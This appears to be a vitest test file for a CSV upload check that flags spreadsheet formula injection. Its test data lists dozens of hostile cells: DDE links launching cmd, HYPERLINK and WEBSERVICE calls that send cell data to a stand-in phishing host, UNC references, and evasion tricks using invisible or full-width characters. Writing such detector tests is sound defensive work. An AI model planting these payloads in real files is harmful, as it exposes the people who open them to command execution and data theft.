import { describe, expect, it } from 'vitest';
import { csvHasFormula } from '../../../../shared/domain/uploads/csv-formulas';
import { detectFileKind } from '../../../../shared/domain/uploads/file-type';
import { growth } from '../../../support/growth';

const ORDERS_HEADER = 'pedido;data;cliente;valor;observação\n';

describe('csvHasFormula: cells a spreadsheet would run', () => {
  it.each([
    [
      'a HYPERLINK to a phishing page',
      `${ORDERS_HEADER}1042;01/11/2026;"=HYPERLINK(""http://golpe.example/login"";""Ver pedido"")";10,00;ok\n`,
    ],
    ['a DDE link', "pedido,valor\n1043,=cmd|' /C calc'!A0\n"],
    ['a DDE link after numbers and signs', "pedido,valor\n1044,-2+3+cmd|' /C calc'!A0\n"],
    ['a plus before a function', 'pedido\t+SUM(1;2)\n'],
    ['an at sign before a function', "@SUM(1+1)*cmd|' /C calc'!A0,x\n"],
    ['a formula in the first cell', '=1+1\n'],
    ['a quoted formula', 'a;b\n"x";"=IMPORTXML(""http://golpe.example"";""//a"")"\n'],
    ['a formula after CRLF', 'a,b\r\n=2*3,x\r\n'],
    ['a space before the sign', 'pedido,link\n1047, =HYPERLINK("http://golpe.example")\n'],
    ['a quote and spaces before the sign', 'pedido;link\n1048;"  =HYPERLINK(""http://golpe.example"")"\n'],
    ['a zero-width space before the sign', "pedido,valor\n1049,\u200b=cmd|' /C calc'!A0\n"],
    ['a no-break space and a word joiner before a plus', 'pedido\t\u00a0\u2060+SUM(1;2)\n'],
    ['a full-width equals sign', 'pedido,link\n1050,\uff1dHYPERLINK("http://golpe.example")\n'],
    ['a full-width at sign before a function', '\uff20SUM(1+1)*cmd|x,y\n'],
    // The whole cell runs: a DDE link or a remote call after a bracket, a reference or a string.
    ['a DDE link after a bracket', "pedido;valor\n1051;-(1)+cmd|' /C calc'!A0\n"],
    ['a DDE link inside brackets, after an at sign', "pedido;valor\n1052;@(cmd|' /C calc'!A0)\n"],
    ['a DDE link after a cell reference', "pedido;valor\n1053;-A1+cmd|' /C calc'!A0\n"],
    ['a DDE link after an absolute reference and a decimal comma', "pedido;valor\n1054;+$A$1,5+cmd|' /C calc'!A0\n"],
    ['a DDE link after a string', 'pedido;valor\n1055;+"pedido"&cmd|\' /C calc\'!A0\n'],
    ['a remote call inside brackets', 'pedido;cliente\n1056;+(WEBSERVICE("http://golpe.example/?c="&B2))\n'],
    [
      'a remote call in a quoted cell, after a reference',
      'pedido;cliente\n1057;"-A1&FILTERXML(WEBSERVICE(""http://golpe.example/?""&B2);""//a"")"\n',
    ],
    // A link to a phishing page, wherever it sits in a signed cell, in any case.
    ['a link inside brackets', 'pedido;link\n1058;+(HYPERLINK("http://golpe.example/login";"Ver pedido"))\n'],
    ['a link after a string', 'pedido;link\n1059;-"pedido"&HYPERLINK("http://golpe.example/login")\n'],
    ['a link after a cell reference, quoted', 'pedido;link\n1060;"@A1&HIPERLINK(""http://golpe.example/login"")"\n'],
    ['a link in lower case after a space', 'pedido;link\n1061;- hyperlink("http://golpe.example/login")\n'],
    ['a remote call followed by a word', 'pedido;link\n1062;+WEBSERVICE("http://golpe.example/?c="&B2) x\n'],
    ['a function in capitals closing the cell', 'pedido;total\n1063;-SUM(A1:A3)\n'],
    ['a function in capitals, nested, then an operator', 'pedido;total\n1064;+ROUND(SUM(A1:A3),2)*2\n'],
    // An empty quoted text before the sign (red team 53): not read as a quoted text "=…".
    ['an empty quoted text before an equals sign', 'pedido;link\n1069;""=HYPERLINK("http://golpe.example/login")\n'],
    ['an empty quoted text before a DDE link', 'pedido;valor\n1070;""-2+cmd|\' /C calc\'!A0\n'],
    // A quoted space or zero-width space before the sign is the space before it (red team 54).
    ['a quoted space before an equals sign', 'pedido,link\n1074," "=HYPERLINK("http://golpe.example/login")\n'],
    ['a quoted zero-width space before a link', 'pedido;link\n1075;"\u200b"-HIPERLINK("http://golpe.example")\n'],
    // Excel in pt-BR reads its own names in a CSV it opens.
    ['a pt-BR remote call in capitals', 'pedido;cliente\n1066;-SERVIÇOWEB("http://golpe.example/?c="&B2)\n'],
    [
      'a pt-BR remote call in lower case after a space',
      'pedido;cliente\n1067;- serviçoweb("http://golpe.example/?c="&B2)\n',
    ],
    ['a pt-BR XML filter in lower case', 'pedido;cliente\n1068;+filtroxml(A1;"//a")\n'],
    ['a DDE link in lower case after an at sign', "pedido;valor\n1065;@cmd|' /C calc'!A0\n"],
    // Excel in pt-BR splits a CSV at ';' only: a comma in a formula's string is text, the call after it runs.
    [
      'a pt-BR remote call after a string with a comma',
      'pedido;cliente\n1071;+"Ana, SP"&SERVIÇOWEB("http://golpe.example/?c="&B2)\n',
    ],
    [
      'a link after a string with a comma and a space',
      'pedido;link\n1072;-0&"pedido, frete"&HIPERLINK("http://golpe.example")\n',
    ],
    ['a DDE link after a string with a comma', 'pedido;valor\n1073;+"a,b"&cmd|\' /C calc\'!A0\n'],
    // Full-width names and brackets, read as ASCII by East Asian locales (files 55).
    [
      'a full-width sign and name',
      'pedido;link\n1076;\uff0d\uff28\uff39\uff30\uff25\uff32\uff2c\uff29\uff2e\uff2b("http://golpe.example")\n',
    ],
    [
      'a full-width equals sign and name',
      'pedido;link\n1077;\uff1d\uff28\uff39\uff30\uff25\uff32\uff2c\uff29\uff2e\uff2b("http://golpe.example")\n',
    ],
    [
      'a remote call in full-width capitals',
      'pedido;cliente\n1078;-\uff37\uff25\uff22\uff33\uff25\uff32\uff36\uff29\uff23\uff25("http://golpe.example/?c="&B2)\n',
    ],
    [
      'a remote call with a full-width bracket',
      'pedido;cliente\n1079;-webservice\uff08"http://golpe.example/?c="&B2)\n',
    ],
    ['an ideographic space before the sign', 'pedido;link\n1080;\u3000=HYPERLINK("http://golpe.example")\n'],
    ['a full-width DDE bar and item', "pedido;valor\n1081;-cmd\uff5c' /C calc'\uff01A0\n"],
    // A space before the bracket: LibreOffice reads it as the call.
    ['a space between a link and its bracket', 'pedido;link\n1082;-HYPERLINK ("http://golpe.example/login")\n'],
    [
      'a no-break space between a pt-BR remote call and its bracket',
      'pedido;cliente\n1083;+ serviçoweb\u00a0("http://golpe.example/?c="&B2)\n',
    ],
    // A DDE link's application name may be quoted (Microsoft's syntax: 'APP'|'TOPIC'!'ITEM').
    ['a DDE link with its application in single quotes', "pedido;valor\n1084;-'cmd'|' /C calc'!A0\n"],
    ['a DDE link with its application in double quotes', 'pedido;valor\n1085;-"cmd"|\' /C calc\'!A0\n'],
    ['a DDE link with every part quoted, after an at sign', "pedido;valor\n1086;@'cmd'|'/C calc'!'A0'\n"],
    // LibreOffice's DDE function, in any case.
    ['a DDE call in lower case', 'pedido;valor\n1087;"-dde(""cmd"";""/C calc"";""x"")"\n'],
    ['a DDE call after a reference', 'pedido;valor\n1088;"+A1&Dde(""cmd"";""/C calc"";""x"")"\n'],
    // Words only in a call LibreOffice runs: a word may be a column's heading (its label lookup).
    ['a remote call of a heading', 'url;pedido\nhttp://golpe.example/?c=;1089\n-WEBSERVICE(url)\n'],
    ['a link to a heading, in lower case', 'site;pedido\nhttp://golpe.example;1090\n- hyperlink(site)\n'],
    ['a function of a word, then an operator', 'pedido;total\n1091;-SUM(P)*2\n'],
    // What starts a cell (files 55): a separator that opens the file, blanks other than the space, small signs.
    ['a tab opening the file, then an equals sign', '\t=HYPERLINK("http://golpe.example")\n'],
    ['a comma opening the file, then a DDE link', ",-2+cmd|' /C calc'!A0\n"],
    ['a semicolon opening the file after a BOM', '\ufeff;+WEBSERVICE("http://golpe.example")\n'],
    ['a form feed before the sign', 'pedido;link\n1092;\f=HYPERLINK("http://golpe.example")\n'],
    ['an en space before the sign', 'pedido;link\n1093;\u2002=HYPERLINK("http://golpe.example")\n'],
    ['a narrow no-break space before a minus', 'pedido;link\n1094;\u202f-HYPERLINK("http://golpe.example")\n'],
    ['a line separator before the sign', 'pedido;link\n1095;\u2028=HYPERLINK("http://golpe.example")\n'],
    ['a small equals sign', 'pedido;link\n1096;\ufe66HYPERLINK("http://golpe.example")\n'],
    ['a small minus before a DDE link', "pedido;valor\n1097;\ufe63cmd|' /C calc'!A0\n"],
    // A reference into another file: opened or fetched when links update; a UNC path sends the login's hash.
    ['a UNC workbook reference after a minus', "pedido;valor\n1098;-'\\\\golpe.example\\s\\[x.xlsx]Plan1'!A1\n"],
    ['a workbook reference on a path, quoted cell', 'pedido;valor\n1099;"+\'C:\\dados\\[b.xlsx]P\'!A1*2"\n'],
    ['a linked workbook by number', 'pedido;valor\n1100;+[1]Plan1!A1\n'],
    ['a UNC path before an item', "pedido;valor\n1101;@'\\\\golpe.example\\s\\x'!nome\n"],
    ["LibreOffice's link to a web file", "pedido;valor\n1102;-'https://golpe.example/x.ods'#$Plan1.A1\n"],
    ["LibreOffice's link to a local file", "pedido;valor\n1103;+'file:///C:/x.ods'#Plan1.A1\n"],
  ])('%s', (_name, text) => {
    expect(csvHasFormula(text)).toBe(true);
  });

  it.each([
    [
      'an orders export with negative values and prices',
      `${ORDERS_HEADER}1045;02/11/2026;Ana Lima;-15,00;estorno\n1046;02/11/2026;João;R$ -10,00;"-R$ 5,00 de frete"\n`,
    ],
    ['phone numbers', 'nome,telefone\nAna,+55 11 98765-4321\nJoão,+5511987654321\n'],
    ['Instagram handles and e-mails', 'loja;instagram;email\nEmpório;@emporiodaana;ana@emporio.com.br\n'],
    ['a list with dashes and brackets', 'item\n- Frete (ida)\n- Embalagem\n'],
    ['an equals sign inside a cell', 'condição\ntotal = soma dos itens\n'],
    ['a minus before text', 'observação\n-Urgente! Cliente aguardando\n'],
    ['spaces before a phone number and a negative value', 'nome,telefone,valor\nAna, +55 11 98765-4321, -15,00\n'],
    ['a zero-width space before a handle', 'loja;instagram\nEmpório;\u200b@emporiodaana\n'],
    ['a negative value, then sizes with bars in the next cell', 'valor,tamanhos\n-15,P|M|G\n'],
    ['a negative value, then a remote call written as text in the next cell', 'valor;nota\n-15,00;WEBSERVICE(x)\n'],
    ['a quoted text after a sign, with quotes and separators in it', 'nota\n"- ver ""pedido""; frete, (ida)"\n'],
    // A merchant's list in a cell: a sign, then words with brackets (Bling, Shopee, Mercado Livre exports).
    ['a dash, a space and words with brackets', 'pedido;itens;qtd\n250001;- produto(s) sem estoque;2\n'],
    ['a plus, a space and words with brackets', 'pedido;observação\n7781;+ brinde(s) na caixa\n'],
    ['a dash, a quantity and words with brackets', 'ajuste\n- 2 unidade(s) devolvida(s)\n'],
    ['a dash stuck to a word with brackets', 'status\n-cancelado(a) pelo cliente\n'],
    ['a plus stuck to a brand with brackets', 'marca\n+Vida(Natural)\n'],
    ['a handle with brackets', 'loja\n@loja(oficial)\n'],
    [
      'a list with accented words and brackets',
      'pedido;itens\n1;- opção(ões) esgotada(s)\n2;- 2 imagem(ns) anexada(s)\n',
    ],
    ['quoted text that starts with a quote', 'nota\n"""Frete grátis"" = promoção"\n'],
    ['quoted blanks before a value and a phone number', 'nome;valor;telefone\nAna;" "-15,00;" "+55 11 98765-4321\n'],
    ['a list in capitals', 'pedido;itens\n1;- PRODUTO(S) SEM ESTOQUE\n2;+ BRINDE(S) NA CAIXA\n3;-CAMISETA(P) AZUL\n'],
    ['a quoted list with brackets and separators', 'pedido;nota\n88;"- produto(s) sem estoque; aguardando"\n'],
    ['a tab-separated list with brackets', 'pedido\tvalor\tobs\n1\t-19,90\t- produto(s) sem estoque\n'],
    // A quote left open longer than a formula's string (255 characters) is no formula's: the comma separates.
    ['an open quote in a signed text, a call in the next cell', `obs,nota\n-"${'a'.repeat(300)},HYPERLINK(x)\n`],
    [
      'a negative value, then a quoted note with a call written as text',
      'valor,nota\n-15,"ver WEBSERVICE(x), depois"\n',
    ],
    // A bar with no DDE item after it is a list (files 55): a DDE link is app|topic!item.
    ['sizes with bars after a dash', 'produto;grade\nCamiseta;- tamanhos P|M|G\n'],
    ['sizes with bars stuck to a dash', 'produto;grade\nCamiseta;-P|M|G\n'],
    ['sizes with bars and an exclamation', 'produto;obs\nCamiseta;- tamanhos P|M|G! aproveite\n'],
    // A word in capitals and a size or plural in brackets that end the cell: a list's item.
    ['a word in capitals with a size ending the cell', 'item\n-CAMISETA(P)\n'],
    ['a quantity and a word in capitals with a plural', 'pedido;item\n1;- 2 CAMISETA(S)\n2;+KIT(GG);3\n'],
    ['a quoted word in capitals with a size', 'item;qtd\n"-CAMISETA(P)";1\n'],
    // A remote function's English name as a word, a plural in brackets: no spreadsheet defines "s".
    ['calls with a plural in a list', 'obs\n- 2 call(s) sem resposta\n'],
    ['images with a plural in a list', 'obs\n+ 3 image(s) do produto\n'],
    ['calls with a plural ending the cell', 'atendimento;obs\nAna;- 2 CALL(S)\n'],
    // Full-width text read as ASCII is still text.
    ['a full-width negative value and a Japanese list', 'valor;itens\n\uff0d15,00;\uff0d 商品\uff08\uff33\uff09\n'],
    ['a separator opening the file, then values', ';-15,00;+55 11 98765-4321\n\t-19,90\n'],
    ['blanks before negative values', 'valor;saldo\n\u2002-15,00;\f-19,90\n\ufe63 5,00;\u202f+10\n'],
    [
      'fractions, exclamations, numbers and tags in a signed list',
      "itens\n- 1/2 dúzia! (promo)\n- pedido #123 (urgente)\n- '#1 mais vendido' (loja)\n- [promo] leve 3! (oferta)\n",
    ],
    ['empty', ''],
  ])('%s: no formula', (_name, text) => {
    expect(csvHasFormula(text)).toBe(false);
  });

  it('is linear: a megabyte of separators and signs is read at once', () => {
    expect(csvHasFormula(`${'-,'.repeat(500_000)}x`)).toBe(false);
  });
});

describe('detectFileKind refuses a CSV with formulas, never a text file', () => {
  const bytes = (text: string) => new Uint8Array(Buffer.from(text, 'utf8'));
  it('names the reason', () => {
    expect(detectFileKind(bytes('a,b\n=HYPERLINK("http://golpe.example"),x\n'), 'pedidos.csv')).toEqual({
      ok: false,
      reason: 'formula',
    });
    expect(detectFileKind(bytes('nome,valor\nAna,-15.00\n'), 'pedidos.csv')).toMatchObject({ ok: true, kind: 'csv' });
    // A .txt is read in a text editor, where nothing runs.
    expect(detectFileKind(bytes('=HYPERLINK("http://golpe.example")\n'), 'notas.txt')).toMatchObject({
      ok: true,
      kind: 'txt',
    });
  });
});

describe('csvHasFormula: bounded work on hostile shapes', () => {
  it.each([
    ['signs and commas', `${'-,'.repeat(1_000_000)}x`],
    ['signs and decimal commas', `${'-1,1'.repeat(500_000)}x`],
    ['signs and spaces on one line', `-${' '.repeat(2_000_000)}x`],
    ['signed cells on every line', `${'-1 + 2 * 3\n'.repeat(200_000)}`],
    ['a sign before a quoted cell as long as an upload', `+"${'a'.repeat(10_000_000)}"\n`],
    ['quoted signed cells, one after another', `${';"+a'.repeat(1_000_000)}\n`],
    ['signed cells whose quotes never close', `${'"-'.repeat(1_000_000)}`],
    ['signed cells after empty quoted texts', `${';""-a'.repeat(1_000_000)}\n`],
    ['quotes and spaces in turn', `;${'" '.repeat(2_000_000)}-a\n`],
    ['lists in capitals on one line', `${';- PRODUTO(S) SEM ESTOQUE'.repeat(300_000)}\n`],
    ['a bracket closed before a run of spaces', `-X(S)${' '.repeat(2_000_000)}x\n`],
    ['signed cells with strings holding commas', `${',-"a,'.repeat(1_000_000)}`],
    ['signed cells whose strings stay open', `${`,-"${'a,('.repeat(85)}`.repeat(40_000)}`],
    ['bars with no item, one cell after another', `${',-a|'.repeat(1_000_000)}\n`],
    ['bars and exclamations with no item', `-${'a|! '.repeat(1_000_000)}\n`],
    ['calls of words, one cell after another', `${';-call(s)'.repeat(1_000_000)}\n`],
    ['full-width text as long as an upload', `-${'\uff21\uff22\uff08\uff33\uff09\u3000'.repeat(1_000_000)}\n`],
  ])('%s: no formula, read in linear time', (_name, text) => {
    expect(csvHasFormula(text)).toBe(false);
  });
});

// One cell of a 10 MB upload: "-" then ten million digits (or spaces) overflowed V8's regular-expression
// stack (a RangeError out of detectFileKind: the mail read as unparseable, the webform post failed).
describe('csvHasFormula: a sign before a run as long as an upload', () => {
  const run = (unit: string) => unit.repeat(Math.ceil(10_000_000 / unit.length)).slice(0, 10_000_000);
  it.each([
    ['digits', '1'],
    ['spaces', ' '],
    ['decimal commas', '1,1'],
  ])('%s: read, no formula; the same run before a DDE link is one', (_name, unit) => {
    expect(csvHasFormula(`valor\n-${run(unit)}\n`)).toBe(false);
    expect(csvHasFormula(`valor\n+${run(unit)}+cmd|' /C calc'!A0\n`)).toBe(true);
  });

  it('a CSV upload of one such cell is a CSV', () => {
    const file = new Uint8Array(Buffer.from(`data,valor\n2026-11-01,-${run('1')}\n`, 'utf8'));
    expect(detectFileKind(file, 'extrato.csv')).toMatchObject({ ok: true, kind: 'csv' });
  });
});

// The readings added for DDE items, calls of words and full-width text (files 55), as ratios: a 10×
// longer input under 30× the time (a quadratic reading is about 100×).
describe('csvHasFormula: linear in the shapes of its newer readings', () => {
  it.each([
    ['bars with no item', (n: number) => `${',-a|'.repeat(n)}\n`],
    ['a bar, then exclamations with no item', (n: number) => `-a|${'! '.repeat(n)}\n`],
    ['bars in one cell, an item far behind', (n: number) => `-"x"${'|'.repeat(n)}\n`],
    ['calls of words', (n: number) => `${';-call(s)'.repeat(n)}\n`],
    ['calls of words never closed', (n: number) => `-A1&${'image(s '.repeat(n)}\n`],
    ['full-width words and brackets', (n: number) => `-${'\uff21\uff22\uff08\uff33\uff09\u3000'.repeat(n)}\n`],
    ['separators and blanks in turn', (n: number) => `${';\u2002\f"'.repeat(n)}-a\n`],
    ['brackets, exclamations and hashes with no item', (n: number) => `${';-](! \\\\#'.repeat(n)}\n`],
    ['a call of one long word never closed', (n: number) => `-A1&image(${'a'.repeat(n)}\n`, 2_000],
    ['a name in capitals, then one long word never closed', (n: number) => `-CAMISETA(${'a'.repeat(n)}\n`, 2_000],
    ['names and spaces before no bracket', (n: number) => `-A1&WEBSERVICE${' '.repeat(n)}x\n`],
    // Each shape at 20,000 (a short input is timed in the host's noise), a long word at 2,000: read
    // quadratically it takes seconds there, hours at 20,000.
  ])('%s', (_name, text, size = 20_000) => {
    expect(growth(text, csvHasFormula, size)).toBeLessThan(30);
  });
});
